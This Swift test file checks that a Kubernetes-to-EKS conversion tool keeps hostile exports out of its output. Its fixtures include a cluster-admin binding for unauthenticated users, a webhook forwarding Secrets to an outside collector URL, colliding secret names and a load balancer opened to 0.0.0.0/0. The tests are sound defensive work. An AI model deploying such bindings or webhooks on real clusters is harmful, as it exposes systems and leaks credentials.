import Foundation
import XCTest
@testable import EksodusCore

/// What `eksodus convert` must not carry over from a hostile export: the operator's own credentials into Secrets Manager,
/// and load balancers or class parameters that expose more than the plan decided.
final class ConvertExposureTests: XCTestCase {
    let reference = try! ReferenceData.embedded()

    /// Imports the manifests as cluster `src`, plans for 1.35 and converts; every written file's text by relative path.
    func convert(_ manifests: String) throws -> (TransitionPlan, [String: String]) {
        let folder = try writeManifests(["in.yaml": manifests], test: self)
        let database = try AppDatabase.inMemory()
        try importPaths([folder.path], cluster: "src", into: database)
        let plan = try TransitionPlanner(database: database, reference: reference)
            .run(PlanRequest(name: "p", target: KubernetesVersion(major: 1, minor: 35), region: "eu-west-1", accountID: "123456789012", now: fixedNow))
        let estates = try database.writer.read { try Estate.load($0) }
        let out = try temporaryFolder(self)
        _ = try ConvertedManifests(plan: plan, reference: reference).write(estates: estates, to: out)
        var files: [String: String] = [:]
        for case let url as URL in FileManager.default.enumerator(at: out, includingPropertiesForKeys: nil)! where ["yaml", "md"].contains(url.pathExtension) {
            files[String(url.path.dropFirst(out.path.count + 1))] = try String(contentsOf: url, encoding: .utf8)
        }
        return (plan, files)
    }

    func objects(_ files: [String: String]) throws -> [ManifestNode] {
        try files.filter { $0.key.hasSuffix(".yaml") && !$0.key.hasSuffix("kustomization.yaml") }.flatMap { try ManifestText.objects($0.value, name: $0.key) }
    }

    /// The CHANGES.md `sh` block run by bash with a stub `aws`, the operator's AWS key and PATH in the environment and each
    /// variable the comments name set to `value of <key>`: what reaches Secrets Manager is exactly the keys' own values, on
    /// stdin, in the plan's region; no value is ever an argument (ps shows every user's arguments).
    /// Two Secrets never share a variable: these two names collide under 32-bit FNV-1a (found by an attacker in seconds).
    func testSecretVariablesOfNamesChosenToCollideStayApart() {
        let victim = ConvertedManifests.variableName(secret: "c1/app/db-credentials", index: 0)
        let attacker = ConvertedManifests.variableName(secret: "c1/evil/x5u1raao0", index: 0)
        XCTAssertEqual(ShortHash.hex("c1/app/db-credentials"), ShortHash.hex("c1/evil/x5u1raao0"), "the pair still collides under FNV")
        XCTAssertNotEqual(victim, attacker)
        XCTAssertTrue(victim.allSatisfy { $0.isASCII && ($0.isUppercase || $0.isNumber || $0 == "_") }, victim)
    }

    func testSecretsManagerCommandsNeverReadTheOperatorsOwnVariables() throws {
        guard let bash = ConvertTests.which("bash"), ConvertTests.which("jq") != nil else { throw XCTSkip("bash and jq are needed") }
        let keys = ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "PATH", "GITHUB_TOKEN", "db.password", "db_password", "0"]
        let (_, files) = try convert("""
            apiVersion: v1
            kind: Secret
            metadata: {name: ci, namespace: app}
            type: Opaque
            data: {\(keys.map { "\"\($0)\": eHh4" }.joined(separator: ", "))}
            """)
        let changes = try XCTUnwrap(files.first { $0.key.hasSuffix("CHANGES.md") && $0.value.contains("create-secret") }?.value)
        let block = try XCTUnwrap(changes.components(separatedBy: "```sh\n").last?.components(separatedBy: "```").first)
        // "# VARIABLE: key KEY of SECRET" above each command names the variable per key.
        var environment = ["AWS_ACCESS_KEY_ID": "OPERATOR-KEY-ID", "AWS_SECRET_ACCESS_KEY": "OPERATOR-SECRET", "AWS_SESSION_TOKEN": "OPERATOR-TOKEN",
                           "GITHUB_TOKEN": "OPERATOR-GITHUB"]
        var variables: [String: String] = [:]
        for line in block.split(separator: "\n") where line.hasPrefix("# ") {
            let parts = line.dropFirst(2).components(separatedBy: ": key ")
            guard parts.count == 2, let key = parts[1].components(separatedBy: " of ").first else { continue }
            variables[key] = parts[0]
            environment[parts[0]] = "value of \(key)"
        }
        XCTAssertEqual(Set(variables.keys), Set(keys), block)
        XCTAssertEqual(Set(variables.values).count, keys.count, "two keys share a variable: \(variables)")
        for variable in variables.values {
            XCTAssertTrue(variable.hasPrefix("EKSODUS_SECRET_"), variable)
            XCTAssertNil(ProcessInfo.processInfo.environment[variable], "\(variable) is an ambient variable")
        }
        let stub = try temporaryFolder(self)
        let received = stub.appendingPathComponent("received")
        let stdin = stub.appendingPathComponent("stdin")
        try Data("#!/bin/sh\nfor a in \"$@\"; do printf '%s\\0' \"$a\"; done > '\(received.path)'\ncat > '\(stdin.path)'\n".utf8).write(to: stub.appendingPathComponent("aws"))
        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: stub.appendingPathComponent("aws").path)
        environment["PATH"] = "\(stub.path):/usr/bin:/bin"
        let process = Process()
        process.executableURL = URL(fileURLWithPath: bash)
        process.arguments = ["-c", block]
        process.environment = environment
        try process.run()
        process.waitUntilExit()
        XCTAssertEqual(process.terminationStatus, 0, block)
        let arguments = try String(contentsOf: received, encoding: .utf8).split(separator: "\0").map(String.init)
        XCTAssertEqual(arguments.firstIndex(of: "--secret-string").map { arguments[$0 + 1] }, "file:///dev/stdin", "\(arguments)")
        XCTAssertEqual(arguments.firstIndex(of: "--region").map { arguments[$0 + 1] }, "eu-west-1", "\(arguments)")
        XCTAssertFalse(arguments.contains { $0.contains("value of") }, "a value in argv: \(arguments)")
        let json = try String(contentsOf: stdin, encoding: .utf8)
        let uploaded = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: String])
        XCTAssertEqual(uploaded, Dictionary(uniqueKeysWithValues: keys.map { ($0, "value of \($0)") }))
        XCTAssertFalse(json.contains("OPERATOR"), json)
        // One variable not exported: jq stops, and nothing half-filled reaches Secrets Manager.
        try FileManager.default.removeItem(at: received)
        let missing = try XCTUnwrap(variables["db.password"])
        environment[missing] = nil
        let again = Process()
        again.executableURL = URL(fileURLWithPath: bash)
        again.arguments = ["-c", block]
        again.environment = environment
        again.standardError = FileHandle.nullDevice
        try again.run()
        again.waitUntilExit()
        XCTAssertFalse(FileManager.default.fileExists(atPath: received.path), "uploaded without \(missing)")
    }

    static let web = """
        apiVersion: apps/v1
        kind: Deployment
        metadata: {name: web, namespace: app}
        spec:
          selector: {matchLabels: {app: web}}
          template:
            metadata: {labels: {app: web}}
            spec:
              containers: [{name: web, image: "nginx:1.25"}]
        ---

        """

    /// A LoadBalancer Service web in namespace app with the annotations and extra spec lines given.
    static func service(_ annotations: [String: String], spec: String = "") -> String {
        web + """
            apiVersion: v1
            kind: Service
            metadata:
              name: web
              namespace: app
              annotations: {\(annotations.sorted { $0.key < $1.key }.map { "\($0.key): \"\($0.value)\"" }.joined(separator: ", "))}
            spec:
              type: LoadBalancer
              selector: {app: web}
              ports: [{port: 80}]
            \(spec)
            """
    }

    /// Planned internal, with the plan's exposure decision naming it and convert's file written internal with a to-do.
    func assertPlannedInternalAndDecided(_ manifests: String, object: String, schemeAnnotation: String, file: StaticString = #filePath, line: UInt = #line) throws {
        let (plan, files) = try convert(manifests)
        let entry = try XCTUnwrap(plan.network.entries.first { $0.object == object }, file: file, line: line)
        XCTAssertEqual(entry.exposure.target, .internal, entry.exposure.evidence, file: file, line: line)
        XCTAssertTrue(entry.exposure.needsDecision, entry.exposure.evidence, file: file, line: line)
        XCTAssertTrue(entry.exposure.evidence.contains("internet-facing") && entry.exposure.evidence.contains("internal"), entry.exposure.evidence, file: file, line: line)
        XCTAssertEqual(entry.annotations[schemeAnnotation], "internal", file: file, line: line)
        let decision = try XCTUnwrap(plan.items.first { $0.keyText == "plan:exposure:src" }, "no exposure decision", file: file, line: line)
        XCTAssertTrue(decision.evidence.contains(object), decision.evidence, file: file, line: line)
        let kind = String(object.prefix { $0 != "/" })
        let written = try XCTUnwrap(try objects(files).first { $0["kind"]?.string == kind && $0["metadata", "name"]?.string == "web" }, file: file, line: line)
        XCTAssertEqual(written["metadata", "annotations", schemeAnnotation]?.string, "internal", file: file, line: line)
    }

    func testAnAKSInternalServiceWithAnAWSInternetFacingAnnotationIsPlannedInternalAndDecided() throws {
        try assertPlannedInternalAndDecided(Self.service(["service.beta.kubernetes.io/azure-load-balancer-internal": "true",
                                                          "service.beta.kubernetes.io/aws-load-balancer-scheme": "internet-facing"]),
                                            object: "Service/app/web", schemeAnnotation: "service.beta.kubernetes.io/aws-load-balancer-scheme")
    }

    func testAPrivateLoadBalancerIPOverriddenByAnAWSInternetFacingAnnotationIsPlannedInternalAndDecided() throws {
        try assertPlannedInternalAndDecided(Self.service(["service.beta.kubernetes.io/aws-load-balancer-scheme": "internet-facing"], spec: "  loadBalancerIP: 10.1.2.3"),
                                            object: "Service/app/web", schemeAnnotation: "service.beta.kubernetes.io/aws-load-balancer-scheme")
    }

    func testAnIngressWhoseAnnotationsDisagreeIsPlannedInternalAndDecided() throws {
        try assertPlannedInternalAndDecided(Self.web + """
            apiVersion: networking.k8s.io/v1
            kind: Ingress
            metadata:
              name: web
              namespace: app
              annotations: {appgw.ingress.kubernetes.io/use-private-ip: "true", alb.ingress.kubernetes.io/scheme: internet-facing}
            spec:
              rules:
              - host: web.example.com
                http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: web, port: {number: 80}}}}]}
            """, object: "Ingress/app/web", schemeAnnotation: "alb.ingress.kubernetes.io/scheme")
    }

    /// A MetalLB Service with an AWS internet-facing scheme: MetalLB ignores the AWS annotation, so it says nothing of today's
    /// exposure; internal and a decision, not a public NLB.
    func testAnAWSInternetFacingSchemeOnAMetalLBServiceIsPlannedInternalAndDecided() throws {
        try assertPlannedInternalAndDecided(Self.service(["metallb.universe.tf/address-pool": "private-pool",
                                                          "service.beta.kubernetes.io/aws-load-balancer-scheme": "internet-facing"]),
                                            object: "Service/app/web", schemeAnnotation: "service.beta.kubernetes.io/aws-load-balancer-scheme")
    }

    /// Signals that agree still decide alone: no decision item.
    func testAgreeingSignalsNeedNoDecision() throws {
        let (plan, _) = try convert(Self.service(["service.beta.kubernetes.io/azure-load-balancer-internal": "true",
                                                  "service.beta.kubernetes.io/aws-load-balancer-scheme": "internal"], spec: "  loadBalancerIP: 10.1.2.3"))
        let entry = try XCTUnwrap(plan.network.entries.first { $0.object == "Service/app/web" })
        XCTAssertEqual(entry.exposure.source, .internal)
        XCTAssertFalse(entry.exposure.needsDecision, entry.exposure.evidence)
        XCTAssertFalse(plan.items.contains { $0.keyText == "plan:exposure:src" })
    }

    /// The repro: IngressClassParams `internet-facing` from 0.0.0.0/0 on class alb would override every Ingress's planned
    /// internal scheme; neither it, its IngressClass nor a TargetGroupBinding is written, each is a to-do.
    func testIngressClassesTheirParamsAndTargetGroupBindingsAreLeftOutWithATodo() throws {
        let (plan, files) = try convert(Self.web + """
            apiVersion: elbv2.k8s.aws/v1beta1
            kind: IngressClassParams
            metadata: {name: alb}
            spec: {scheme: internet-facing, inboundCIDRs: ["0.0.0.0/0"]}
            ---
            apiVersion: networking.k8s.io/v1
            kind: IngressClass
            metadata: {name: alb}
            spec:
              controller: ingress.k8s.aws/alb
              parameters: {apiGroup: elbv2.k8s.aws, kind: IngressClassParams, name: alb}
            ---
            apiVersion: elbv2.k8s.aws/v1beta1
            kind: TargetGroupBinding
            metadata: {name: web, namespace: app}
            spec:
              serviceRef: {name: web, port: 80}
              targetGroupARN: arn:aws:elasticloadbalancing:eu-west-1:999999999999:targetgroup/open/0123456789abcdef
            ---
            apiVersion: networking.k8s.io/v1
            kind: Ingress
            metadata: {name: admin, namespace: app}
            spec:
              ingressClassName: nginx
              rules:
              - host: admin.corp.internal
                http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: web, port: {number: 80}}}}]}
            """)
        let written = try objects(files)
        for kind in ["IngressClassParams", "IngressClass", "TargetGroupBinding"] {
            XCTAssertFalse(written.contains { $0["kind"]?.string == kind }, "\(kind) written")
        }
        XCTAssertFalse(files.values.contains { $0.contains("0.0.0.0/0") || $0.contains("999999999999") })
        let changes = files.filter { $0.key.hasSuffix("CHANGES.md") }.values.joined()
        XCTAssertTrue(changes.contains("- [ ] IngressClassParams alb not written"), changes)
        XCTAssertTrue(changes.contains("- [ ] IngressClass alb not written"), changes)
        XCTAssertTrue(changes.contains("- [ ] TargetGroupBinding app/web not written"), changes)
        let ingress = try XCTUnwrap(written.first { $0["kind"]?.string == "Ingress" })
        XCTAssertEqual(ingress["spec", "ingressClassName"]?.string, "alb")
        XCTAssertEqual(ingress["metadata", "annotations", "alb.ingress.kubernetes.io/scheme"]?.string, "internal")
        XCTAssertEqual(plan.network.entries.first { $0.object == "Ingress/app/admin" }?.exposure.target, .internal)
    }

    /// An object of a kind its CRD declares cluster-scoped, exported without a namespace, is written without one.
    func testAClusterScopedCustomKindNeverGetsTheImportsNamespace() throws {
        let (_, files) = try convert("""
            apiVersion: apiextensions.k8s.io/v1
            kind: CustomResourceDefinition
            metadata: {name: widgets.example.com}
            spec:
              group: example.com
              scope: Cluster
              names: {kind: ClusterWidget, plural: widgets, singular: widget}
              versions: [{name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}}]
            ---
            apiVersion: example.com/v1
            kind: ClusterWidget
            metadata: {name: one}
            spec: {size: 1}
            """)
        let widget = try XCTUnwrap(try objects(files).first { $0["kind"]?.string == "ClusterWidget" }, "\(files.keys.sorted())")
        XCTAssertNil(widget["metadata", "namespace"], "\(widget)")
        XCTAssertEqual(widget["spec", "size"]?.int, 1)
    }

    /// ingress-nginx is set apart (the ALB replaces it): its LoadBalancer Service, internet-facing with a MetalLB pool, is not
    /// written, so no NLB fronts nothing on EKS with the source's annotations; CHANGES.md says why.
    func testASetApartIngressControllersLoadBalancerServiceIsNotWritten() throws {
        let (plan, files) = try convert("""
            apiVersion: apps/v1
            kind: Deployment
            metadata: {name: ingress-nginx-controller, namespace: ingress-nginx}
            spec:
              selector: {matchLabels: {app.kubernetes.io/name: ingress-nginx}}
              template:
                metadata: {labels: {app.kubernetes.io/name: ingress-nginx}}
                spec:
                  containers: [{name: controller, image: "registry.k8s.io/ingress-nginx/controller:v1.9.4"}]
            ---
            apiVersion: v1
            kind: Service
            metadata:
              name: ingress-nginx-controller
              namespace: ingress-nginx
              annotations:
                metallb.universe.tf/address-pool: private-pool
                service.beta.kubernetes.io/aws-load-balancer-scheme: internet-facing
            spec:
              type: LoadBalancer
              loadBalancerClass: service.k8s.aws/nlb
              selector: {app.kubernetes.io/name: ingress-nginx}
              ports: [{name: http, port: 80}]
            ---

            """ + Self.service(["service.beta.kubernetes.io/aws-load-balancer-scheme": "internal"]))
        XCTAssertNil(plan.network.entries.first { $0.name == "ingress-nginx-controller" }, "the network plan gives it no load balancer")
        let services = try objects(files).filter { $0["kind"]?.string == "Service" }
        XCTAssertEqual(services.compactMap { $0["metadata", "name"]?.string }, ["web"], "the Service in front of other workloads is still written")
        XCTAssertFalse(files.values.contains { $0.contains("metallb") || $0.contains("internet-facing\n") || $0.contains("\"internet-facing\"") })
        let changes = files.filter { $0.key.hasSuffix("CHANGES.md") }.values.joined()
        XCTAssertTrue(changes.contains("`Service/ingress-nginx/ingress-nginx-controller` not written: it fronts only Deployment/ingress-nginx/ingress-nginx-controller"), changes)
    }

    /// A binding that gives cluster-admin to system:unauthenticated and a webhook that sends Secrets to an outside URL (with a
    /// password in it): blocker findings, and convert writes neither; the default discovery binding and an in-cluster
    /// webhook are neither found nor left out.
    func testOpenBindingsAndOutsideWebhooksAreBlockersAndNotWritten() throws {
        let manifests = """
            apiVersion: rbac.authorization.k8s.io/v1
            kind: ClusterRoleBinding
            metadata: {name: open-admin}
            roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
            subjects: [{kind: Group, name: "system:unauthenticated", apiGroup: rbac.authorization.k8s.io}]
            ---
            apiVersion: rbac.authorization.k8s.io/v1
            kind: RoleBinding
            metadata: {name: everyone-edits, namespace: app}
            roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit}
            subjects: [{kind: Group, name: "system:authenticated", apiGroup: rbac.authorization.k8s.io}]
            ---
            apiVersion: rbac.authorization.k8s.io/v1
            kind: ClusterRoleBinding
            metadata: {name: readers}
            roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view}
            subjects: [{kind: Group, name: readers, apiGroup: rbac.authorization.k8s.io}]
            ---
            apiVersion: admissionregistration.k8s.io/v1
            kind: MutatingWebhookConfiguration
            metadata: {name: exfil}
            webhooks:
            - name: exfil.example.com
              clientConfig: {url: "https://user:hunter2@collector.example.net/admit"}
              rules: [{apiGroups: [""], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [secrets]}]
              sideEffects: None
              admissionReviewVersions: [v1]
            ---
            apiVersion: admissionregistration.k8s.io/v1
            kind: ValidatingWebhookConfiguration
            metadata: {name: policy}
            webhooks:
            - name: policy.example.com
              clientConfig: {service: {name: policy, namespace: app, path: /validate}}
              rules: [{apiGroups: [apps], apiVersions: [v1], operations: [CREATE], resources: [deployments]}]
              sideEffects: None
              admissionReviewVersions: [v1]
            """
        let database = try AppDatabase.inMemory()
        try importPaths([try writeManifests(["in.yaml": manifests], test: self).path], cluster: "src", into: database)
        let assessment = try Assessor(database: database, reference: reference).run(target: KubernetesVersion(major: 1, minor: 35), now: fixedNow)
        let found = assessment.allFindings.filter { $0.checkID == "SEC009" }
        XCTAssertEqual(Set(found.map { "\($0.kind)/\($0.name)" }), ["ClusterRoleBinding/open-admin", "RoleBinding/everyone-edits", "MutatingWebhookConfiguration/exfil"])
        XCTAssertTrue(found.allSatisfy { $0.severity == .blocker })
        XCTAssertFalse(found.contains { $0.message.contains("hunter2") }, "the URL's password reaches the finding")
        XCTAssertTrue(found.contains { $0.message.contains("collector.example.net") })

        let (_, files) = try convert(manifests)
        let written = Set(try objects(files).map { "\($0["kind"]?.string ?? "")/\($0["metadata", "name"]?.string ?? "")" })
        XCTAssertTrue(written.isDisjoint(with: ["ClusterRoleBinding/open-admin", "RoleBinding/everyone-edits", "MutatingWebhookConfiguration/exfil"]), "\(written)")
        XCTAssertTrue(written.isSuperset(of: ["ClusterRoleBinding/readers", "ValidatingWebhookConfiguration/policy"]), "\(written)")
        let changes = files.filter { $0.key.hasSuffix("CHANGES.md") }.values.joined()
        for object in ["ClusterRoleBinding open-admin not written", "RoleBinding app/everyone-edits not written", "MutatingWebhookConfiguration exfil not written"] {
            XCTAssertTrue(changes.contains("- [ ] " + object), changes)
        }
        XCTAssertFalse(files.values.contains { $0.contains("hunter2") })
    }
}
